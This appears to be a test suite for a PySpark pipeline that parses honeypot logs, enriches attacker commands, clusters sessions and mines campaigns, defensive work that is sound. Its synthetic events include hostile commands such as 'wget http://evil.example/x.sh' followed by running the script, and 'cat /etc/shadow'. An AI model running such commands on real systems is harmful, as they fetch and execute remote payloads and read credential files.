"""Feeds, dictionaries, stored tables, streams and the whole pipeline on small inputs."""

import json
import random

import pytest
from pyspark.sql import functions as F

from tidemark.functions import network as N
from tidemark.operators import clustering, commands, findings, grounding, intel, naming, rollups, store
from tidemark.plans import layers
from tidemark.sources import adapters, feeds, web
from tidemark.streaming import rollups as streaming


def put(tmp_path, name, text):
    (tmp_path / name).write_text(text)
    return f"file://{tmp_path}/{name}"


def test_feeds(spark, tmp_path):
    assert sorted(r["ip"] for r in feeds.ip_list(spark, put(tmp_path, "a", "# c\n1.1.1.1\n\n 2.2.2.2 \n1.1.1.1\n")).collect()) == ["1.1.1.1", "2.2.2.2"]
    nets = feeds.netset(spark, put(tmp_path, "n", "#\n10.0.0.0/8\n9.9.9.9\n"))
    assert sorted(map(tuple, nets.collect())) == [("10.0.0.0/8", True), ("9.9.9.9", False)]
    rows = [{"ip_address": "1.2.3.4", "port": 4}]
    for k, whole in enumerate((rows, {"data": rows}, {"results": rows})):
        got = feeds.json_rows(spark, put(tmp_path, f"j{k}", json.dumps(whole, indent=1)), "ip_address:string,port:int").collect()
        assert [tuple(r) for r in got] == [("1.2.3.4", 4)]
    csv = '# about\n# id,url,tags\n"1","http://a/b","x,y"\n2,http://c/d,z\n'
    assert [tuple(r) for r in feeds.commented_csv(spark, put(tmp_path, "c", csv), ["id", "url", "tags"]).collect()] == [("1", "http://a/b", "x,y"), ("2", "http://c/d", "z")]
    titled = '# about, this\n# id,url,tags\n# "id,other"\n' + csv.split("\n", 2)[2]
    assert feeds.commented_csv(spark, put(tmp_path, "t", titled)).columns == ["id", "url", "tags"]
    with pytest.raises(ValueError):
        feeds.commented_csv(spark, put(tmp_path, "u", "# nothing\n1,2\n"))
    odd = [{"source": "1.1.1.1"}, {"ip": "2.2.2.2", "source": " "}, {"sourceip": "3.3.3.3"}, {"other": 1}]
    assert [r["ip"] for r in feeds.variant_rows(spark, put(tmp_path, "v", json.dumps(odd)), {"ip": ("source", "ip", "sourceip")}).collect()] == ["1.1.1.1", "2.2.2.2", "3.3.3.3", None]
    hit = N.in_ranges(spark.createDataFrame([("10.1.2.3",), ("9.9.9.9",), ("8.8.8.8",), ("bad",)], "ip string"), nets)
    assert sorted((r["ip"], r["cidr"]) for r in hit.collect()) == [("10.1.2.3", "10.0.0.0/8"), ("9.9.9.9", "9.9.9.9")]


def test_log_lines(spark, tmp_path):
    lines = [
        {"eventid": "cowrie.login.failed", "timestamp": "2024-01-02T03:04:05.5Z", "src_ip": "1.2.3.4", "src_port": "22", "session": "s", "username": "u", "password": "p"},
        {"eventid": "cowrie.session.closed", "session": "s", "duration": 1.5, "src_ip": "::1", "hassh": "aa", "kexAlgs": ["k1", "k2"]},
        {"eventid": "cowrie.session.file_download", "session": "s", "url": "http://h:81/x.sh?q#f", "destfile": "/tmp/a/b", "shasum": "ff"},
    ]
    got = feeds.raw_log(spark, put(tmp_path, "log", "\n".join(map(json.dumps, lines)) + "\nnot json\n")).collect()
    assert [(r["category"], r["type"], r["outcome"]) for r in got] == [("authentication", "start", "failure"), ("network", "end", "success"), ("file", "creation", None), (None, None, None)]
    assert (got[0]["source_port"], got[0]["related_ip"], got[1]["duration_ns"], got[1]["network_type"]) == (22, ["1.2.3.4"], 1_500_000_000, "ipv6")
    assert (got[1]["hassh"], got[1]["kex_algorithms"], got[0]["enc_cs"]) == ("aa", ["k1", "k2"], None)
    assert (got[2]["file_name"], got[2]["url"]["port"], got[2]["url"]["extension"], got[2]["related_hash"]) == ("b", 81, "sh", ["ff"]) and got[3]["tags"] == ["parse_failure"]


def test_web_lines(spark):
    rows = [
        {"sip": "1.1.1.1", "method": "get", "url": "/a.php?x=1", "version": "HTTP/1.1", "headers": {"HOST": "h.example:8080"}, "useragent": '["curl/8"]', "body": "é", "odd": "1"},
        {"sip": "::2", "method": "POST", "url": "http://u.example:99/b", "useragent": " ", "body": ""},
    ]
    a, b = web.project(spark.createDataFrame([(json.dumps(r),) for r in rows], "value string")).collect()
    assert (a["method"], a["domain"], a["destination_port"], a["path"], a["extension"], a["http_version"]) == ("GET", "h.example", 8080, "/a.php", "php", "1.1")
    assert (a["user_agent"], a["agent_name"], a["body_bytes"], a["unmapped"], a["tags"], a["message"]) == ("curl/8", "curl", 2, {"odd": "1"}, ["unmapped_fields"], "GET /a.php?x=1")
    assert (b["domain"], b["destination_port"], b["user_agent"], b["body"], b["unmapped"], b["tags"]) == ("u.example", 99, None, None, None, [])


def test_dictionaries(spark, tmp_path):
    bundle = {"objects": [{"type": "x", "external_references": [{"source_name": "mitre-attack", "external_id": i}], "revoked": r} for i, r in (("T1059", False), ("T1059.004", None), ("TA0001", False), ("T9999", True), ("S1", False))]}
    assert sorted(map(tuple, grounding.stix_ids(spark, put(tmp_path, "stix", json.dumps(bundle))).collect())) == [("T1059", "technique"), ("T1059.004", "technique"), ("TA0001", "tactic")]
    page = "# tar\n\n> Archives.\n\n- Create:\n\n`tar cf`\n"
    assert spark.range(1).select(grounding.page_summary(F.lit(page))).first()[0] == "Archives.\nCreate:\ntar cf"
    known = grounding.dictionary(spark.createDataFrame([("wget", "fetches", {"-q": "quiet"})], "command string, description string, flags map<string,string>"), spark.createDataFrame([("cd", {"common": "moves"})], "command string, by_os map<string,string>"))
    lines = spark.createDataFrame([("cd /tmp ; wget -q -x http://a",), ("sudo id",)], "command_line string")
    got = {r["command_line"]: r["block"] for r in grounding.block(lines, known, spark.createDataFrame([("sudo",)], "token string")).collect()}
    assert got == {"cd /tmp ; wget -q -x http://a": "cd: moves\nwget: fetches\n  -q: quiet"}


def test_naming(spark):
    a = spark.createDataFrame([("p1", "Foo"), ("p2", " foo "), ("p5", "Solo")], "playbook_id string, playbook_name string")
    b = spark.createDataFrame([("p3", "FOO"), ("p4", "Bar"), ("p1", "old")], "playbook_id string, playbook_name string")
    assert [tuple(r) for r in naming.collisions(a, b).collect()] == [("foo", 2, 1)]
    assert sorted(r["playbook_name"] for r in naming.disambiguated(a).collect()) == ["Foo p1", "Solo", "foo p2"]
    ids = F.array(F.lit("T1059"))
    ask = lambda s: spark.range(1).select(naming.validated(F.lit(s), ids)).first()[0]
    r = ask('<think>hm</think>```json\n{"intent": "Execution", "confidence": 0.65, "techniques": [" t1059 ", "T0"]}\n```')
    assert (r["intent"], r["confidence"], r["techniques"], r["dropped"]) == ("execution", 6, ["T1059"], 1) and ask("no json") is None
    text = spark.range(1).select(naming.prompt("a {x} b {y}", x=F.lit("1"), y=F.lit("")), naming.embed_text(F.lit("ls"), F.lit(None).cast("string"), F.lit(""), F.array(F.lit("id")))).first()
    assert list(text) == ["a 1 b (none)", "command: ls\nseen with: id"]
    v = spark.createDataFrame([("abc",), ("abc",), ("",), (None,)], "t string").select(naming.hashed_embedding(16)(F.col("t")).alias("v")).collect()
    assert v[0] == v[1] and abs(sum(x * x for x in v[0]["v"]) - 1) < 1e-9 and len(v[3]["v"]) == 16


def test_store(spark, tmp_path):
    path = f"file://{tmp_path}/t"
    assert store.ensure(spark, path, "a int").count() == 0 and store.ensure(spark, path, "a int").count() == 0
    assert store.swap(spark.range(5).selectExpr("cast(id as int) a"), path, least_rows=5) == 5 and spark.read.parquet(path).count() == 5
    with pytest.raises(ValueError):
        store.swap(spark.range(1).selectExpr("cast(id as int) a"), path, least_rows=2)
    assert spark.read.parquet(path).count() == 5
    store.remove(spark, path)
    assert not store.exists(spark, path)
    state = store.marked(spark.createDataFrame([], "key string, at timestamp"), spark.sql("select timestamp'2024-01-02' ts"), "k")
    rows = spark.sql("select explode(array(timestamp'2024-01-02', timestamp'2024-01-03')) ts")
    assert store.since(rows, state, "k").count() == 1 and store.since(rows, state, "other").count() == 2 and store.marked(state, rows.limit(0), "k").count() == 1
    cache = spark.createDataFrame([("a", "old", "e")], "command_hash string, llm_config_hash string, embed_config_hash string")
    out = store.stamped(cache, spark.createDataFrame([("a",), ("b",)], "command_hash string"), {"llm_config_hash": "new"})
    assert sorted(map(tuple, out.collect())) == [("a", "new", "e"), ("b", "new", None)]


def test_intel(spark):
    blocks = spark.sql("select 'ip' kind, '8.8.8.8' value, 'p' provider, 1 verdict, timestamp'2024-01-01' fetched_at, timestamp'2024-01-02' ttl_expires_at")
    newer = blocks.withColumns({"verdict": F.lit(2), "fetched_at": F.lit("2024-02-01").cast("timestamp")})
    assert [r["verdict"] for r in intel.merged(blocks, newer).collect()] == [2] == [r["verdict"] for r in intel.merged(newer, blocks).collect()]
    cmds = spark.sql("select 'h' command_hash, array(named_struct('type','ip','ip','8.8.8.8','domain',null,'url',null,'file_name',null,'file_hash',null), named_struct('type','ip','ip','10.0.0.1','domain',null,'url',null,'file_name',null,'file_hash',null)) indicators")
    assert [tuple(r) for r in intel.indicator_counts(cmds, "ip", N.canonical_ip).collect()] == [("8.8.8.8", 1)]
    queued = spark.sql("select 'ip' kind, v value, 0.5D novelty, 5 confidence, 3 n, timestamp'2024-01-01' last_seen from values ('8.8.8.8'), ('9.9.9.9') t(v)")
    never = spark.createDataFrame([("8.8.0.0/16",)], "cidr string")
    assert [r["value"] for r in intel.queue(queued, F.lit("2024-01-02").cast("timestamp"), 10, never=never).collect()] == ["9.9.9.9"]


def test_latest_run(spark):
    runs = spark.sql("select * from values ('a', timestamp'2024-01-01', 1), ('b', timestamp'2024-01-02', 2), ('b', timestamp'2024-01-02', 3) t(run_id, ts, x)")
    assert sorted(r["x"] for r in clustering.latest_run(runs).collect()) == [2, 3]


EVENTS = "event_id long, ts timestamp, source_ip string, session_id string, action string, command_line string"


def make_events(spark):
    rng, rows = random.Random(1), []
    plays = [["wget http://evil.example/x.sh", "chmod 777 x.sh", "./x.sh"], ["uname -a", "cat /proc/cpuinfo", "nproc"], ["passwd root", "cat /etc/shadow"]]
    for ip in range(12):
        for s, play in enumerate(plays[:2] if ip < 8 else plays[2:]):
            sid = f"s{ip}-{s}"
            when = lambda k, s=s, ip=ip: f"2024-01-{1 + ip:02d} 0{s}:00:{k:02d}"
            rows.append((len(rows), when(0), f"1.1.1.{ip}", sid, "login.success", None))
            rows += [(len(rows) + k, when(k + 1), f"1.1.1.{ip}", sid, "command.input", f"  {c} " if rng.random() < 0.5 else c) for k, c in enumerate(play)]
    return spark.createDataFrame(rows, EVENTS.replace("ts timestamp", "ts string")).withColumn("ts", F.col("ts").cast("timestamp"))


def test_whole_pipeline(spark, tmp_path):
    out = layers.run_all(spark, make_events(spark), f"file://{tmp_path}/all")
    assert out["commands"].count() == 8 and out["session_rollup"].count() == 20 and out["addresses"].count() == 12
    sessions = out["sessions"]
    assert sessions.where("playbook_id is not null").count() >= 0 and sessions.select("session_id").distinct().count() == 20
    assert out["infrastructure"].select("session_count", "ip_count").first() == (8, 8)
    assert out["commands"].where("command_line like 'wget%'").first()["intent"] == "execution"
    one = out["sessions"].where("session_id = 's9-0'").first()
    own = [r["novelty_score"] for r in out["commands"].where("command_line in ('passwd root', 'cat /etc/shadow')").collect()]
    assert one["mean_novelty_score"] == pytest.approx(sum(own) / 2, abs=1e-4) and one["max_novelty_score"] == pytest.approx(max(own), abs=1e-4)
    campaign = out["infrastructure"].first()
    assert campaign["lead"] == "http://evil.example/x.sh" and campaign["lead"] in campaign["name"] and str(campaign["first_seen"]) < str(campaign["last_seen"])


def test_findings_outlive_runs(spark, tmp_path):
    """A second run keeps what an analyst has said; a run of the same id makes no finished layer again."""
    target, events = f"file://{tmp_path}/all", make_events(spark)
    first = layers.run_all(spark, events, target, run_id="a")["findings"]
    assert {r["kind"] for r in first.collect()} >= {"campaign"} and {r["status"] for r in first.collect()} == {"new"}
    change = spark.createDataFrame([(first.first()["finding_id"], "confirmed", "seen")], "finding_id string, to_status string, note string")
    store.swap(findings.set_status(first, change, F.lit("2024-03-01").cast("timestamp")), f"{target}/findings")
    marked = {r["finding_id"]: (r["status"], len(r["status_history"])) for r in spark.read.parquet(f"{target}/findings").collect()}
    assert sorted(marked.values())[0] == ("confirmed", 1)
    again = layers.run_all(spark, events.limit(0), target, run_id="a")
    assert again["commands"].count() == 8  # finished before, so it was read
    fresh = layers.run_all(spark, events, target, run_id="b")["findings"]
    assert {r["finding_id"]: (r["status"], len(r["status_history"])) for r in fresh.collect()} == marked


def test_verbs(spark, tmp_path):
    from tidemark import cli

    target = f"file://{tmp_path}/t"
    call = lambda *a: cli.main([target, *a, "--as-of", "2024-02-01"])
    assert not any(call("healthcheck").values()) and all(call("bootstrap").values()) and all(call("init-indexes").values())
    store.swap(make_events(spark), f"{target}/events")
    assert call("enrich") == {"commands": 8} and call("rollup") == {"session_rollup": 20} and call("cluster")["documents"] == 20
    assert call("rollup", "--layer", "addresses") == {"addresses": 12} and call("name")["playbooks"] >= 1
    mined = call("mine")
    assert mined["infrastructure"] == 1 and mined["findings"] >= 1 and call("mine", "--kind", "infrastructure")["infrastructure"] == 1
    assert call("re-enrich-stale")["stale"] == 8 and call("bless-cache") == {"cache": 8} and call("re-enrich-stale")["stale"] == 0
    assert call("re-triage") == {"commands": 8} and call("re-triage", "--days", "1") == {"commands": 8} and call("reembed") == {"commands": 8}
    assert call("escalate", "--budget", "0.02")["escalated"] <= 2 and call("intel", "--limit", "5") == {"queue": 5} and call("budget") == {}
    assert call("pipeline", "--run-id", "x")["sessions"] == 20 and call("rollup", "--closed", "login.success") == {"session_rollup": 20}
    assert "commands" in call("reset")["dropped"] and not call("healthcheck")["commands"] and call("healthcheck")["events"]


def test_closed_sessions_of_a_stream(spark, tmp_path):
    events = make_events(spark)
    last = events.groupBy("session_id").agg(F.max("ts").alias("ts"), F.first("source_ip").alias("source_ip"))
    ends = last.where("session_id < 's5'").select(F.lit(0).cast("int").alias("event_id"), "ts", "source_ip", "session_id", F.lit("session.closed").alias("action"), F.lit(None).cast("string").alias("command_line"))
    whole = events.unionByName(ends.select(*events.columns)) if set(events.columns) == set(ends.columns) else events.unionByName(ends, allowMissingColumns=True)
    whole.repartition(4).write.parquet(f"{tmp_path}/in")
    stream = streaming.event_stream(spark, f"{tmp_path}/in", whole.schema, 1)
    streaming.roll_up_closed(stream, f"{tmp_path}/in", f"file://{tmp_path}/out", f"{tmp_path}/cp")
    got = spark.read.parquet(f"{tmp_path}/out").select("session_id", "command_count")
    want = rollups.sessions(whole).where("session_id < 's5'").select("session_id", "command_count")
    assert got.count() > 5 and sorted(map(tuple, got.collect())) == sorted(map(tuple, want.collect()))


def test_lock(spark, tmp_path):
    path = f"file://{tmp_path}/lock"
    with store.locked(spark, path):
        with pytest.raises(BlockingIOError), store.locked(spark, path):
            pass
    with store.locked(spark, path):
        assert store.exists(spark, path)
    assert not store.exists(spark, path)


def test_registry(spark):
    from tidemark.functions import registry
    from tidemark.functions import text as T

    assert registry.register(spark) == ["tm_normalised", "tm_hash16", "tm_label"]
    rows = spark.createDataFrame([("  a \t b\u2003c ",), ("x" * 5000,), (None,)], "t string")
    rows.createOrReplaceTempView("registry_rows")
    got = spark.sql("SELECT tm_normalised(t), tm_hash16(t), tm_label(t) FROM registry_rows").collect()
    want = rows.select(T.normalised(F.col("t")), T.hash16(F.col("t")), T.label(F.col("t"))).collect()
    assert [tuple(r) for r in got] == [tuple(r) for r in want]
    kinds = spark.createDataFrame([("ip", "2606:4700::0001"), ("domain", " A.B. "), ("hash", "F" * 32), ("hash", "f"), ("other", "x")], "kind string, value string")
    assert [r[0] for r in kinds.select(registry.canonical(F.col("kind"), F.col("value"))).collect()] == ["2606:4700::1", "a.b", "f" * 32, None, None]


def test_listed_indicators(spark):
    import ipaddress

    from tidemark.functions import text as T

    ips = ["1.2.3.4", " 10.0.0.1. ", "[::1]", "256.1.1.1", "01.2.3.4", "1.2.3", "::", "1::2::3", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7", "::ffff:1.2.3.4", "1:2:3:4:5:6:7::", "1:2:3:4:5:6:7:8::", "12345::", "g::", "", "x", "1:2:3:4:5:6:1.2.3.4", ":1"]
    given = {"ips": ips, "hashes": [" " + "A" * 32, "a" * 33, "b" * 40, "z" * 32, "c" * 64], "domains": ["Evil.Example.", "a/b.c", "one", "x.y z", "-a.b"], "urls": [" http://a", "a.b", "TFTP://x", "ftp:/x", "gopher://x"], "files": ["/tmp/x", "a b", "..", "", "é"]}
    rows = spark.createDataFrame([tuple(given.values())], ",".join(f"{k} array<string>" for k in given))
    got = rows.select(*[T.listed_iocs(k, F.col(k)).alias(k) for k in given]).first()

    def stands(v):
        try:
            return ipaddress.ip_address(v) is not None
        except ValueError:
            return False

    bare = [v.strip().rstrip(".").strip("[]") for v in ips]
    assert got["ips"] == [v for v in bare if stands(v)]
    assert got["hashes"] == ["a" * 32, "b" * 40, "c" * 64] and got["domains"] == ["evil.example"] and got["urls"] == ["http://a", "TFTP://x"] and got["files"] == ["/tmp/x", "é"]
    with pytest.raises(ValueError):
        T.listed_iocs("other", F.col("ips"))


def test_weights_stand_for_equal_points():
    import numpy as np

    rng = np.random.default_rng(3)
    for seed in range(12):
        points = np.concatenate([rng.normal(c, 0.05 + 0.1 * (seed % 3), (6, 2)) for c in ((0, 0), (3, 0), (0, 3))] + [rng.uniform(-2, 6, (4, 2))])
        weights = rng.integers(1, 5, len(points))
        whole = clustering.hdbscan(np.repeat(points, weights, axis=0), 4, 3)
        short = clustering.hdbscan(points, 4, 3, weights)
        groups = lambda labels, owners: {frozenset(owners[labels == k].tolist()) for k in set(labels.tolist()) - {-1}}
        assert groups(whole, np.repeat(np.arange(len(points)), weights)) == groups(short, np.arange(len(points)))


def test_settings(tmp_path):
    from tidemark.config import DEFAULT, load
    from tidemark.operators import campaign_text

    (tmp_path / "a.json").write_text('{"merge_slack": 0.1, "suspicious_tlds": ["zip"]}')
    found = load(str(tmp_path / "a.json"), str(tmp_path / "none.json"), environment={"TIDEMARK_INFRA_IPS": "7", "OTHER": "x"})
    assert (found.merge_slack, found.suspicious_tlds, found.infra_ips, found.infra_sessions) == (0.1, ("zip",), 7, DEFAULT.infra_sessions)
    (tmp_path / "b.json").write_text('{"nothing": 1}')
    with pytest.raises(ValueError):
        load(str(tmp_path / "b.json"), environment={})
    assert campaign_text.fingerprint({"a": 1, "b": 2}) == campaign_text.fingerprint({"b": 2, "a": 1}) != campaign_text.fingerprint({"a": 1})
    assert campaign_text.file_fingerprint(str(tmp_path / "a.json")) != campaign_text.file_fingerprint(str(tmp_path / "none.json"))


def test_stream_equals_batch(spark, tmp_path):
    events = make_events(spark)
    events.repartition(3).write.parquet(f"{tmp_path}/in")
    stream = streaming.event_stream(spark, f"{tmp_path}/in", events.schema, 1)
    streaming.upsert_table(streaming.session_counts(stream, "60 days"), f"file://{tmp_path}/counts", "session_id", f"{tmp_path}/cp")
    batch = rollups.sessions(events).select("session_id", "command_count", "login_success_count")
    got = spark.read.parquet(f"{tmp_path}/counts").select("session_id", "command_count", "login_success_count")
    assert sorted(map(tuple, got.collect())) == sorted(map(tuple, batch.collect()))
    seen = []
    fresh = streaming.new_commands(streaming.event_stream(spark, f"{tmp_path}/in", events.schema).where("command_line is not null"), "60 days")
    streaming.upsert_batches(fresh, lambda df, _: seen.extend(r["command_hash"] for r in df.collect()), f"{tmp_path}/cp2")
    assert sorted(seen) == sorted(r["command_hash"] for r in commands.dedup(events).collect())


def test_llm_is_optional(tmp_path):
    """With the llm folders and the pipeline gone, everything else still imports."""
    import os
    import shutil
    import subprocess
    import sys

    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    shutil.copytree(f"{root}/tidemark", tmp_path / "tidemark", ignore=shutil.ignore_patterns("llm", "__pycache__"))
    shutil.copy(f"{root}/__spark_entry__.py", tmp_path)
    code = "import __spark_entry__ as e; q = e.queries(); assert 'session_rollup' in q and not any(n.startswith('op') for n in q); e.oracle_sql()"
    subprocess.run([sys.executable, "-c", code], cwd=tmp_path, env=os.environ | {"PYTHONPATH": str(tmp_path)}, check=True)
    assert adapters.ACTIONS
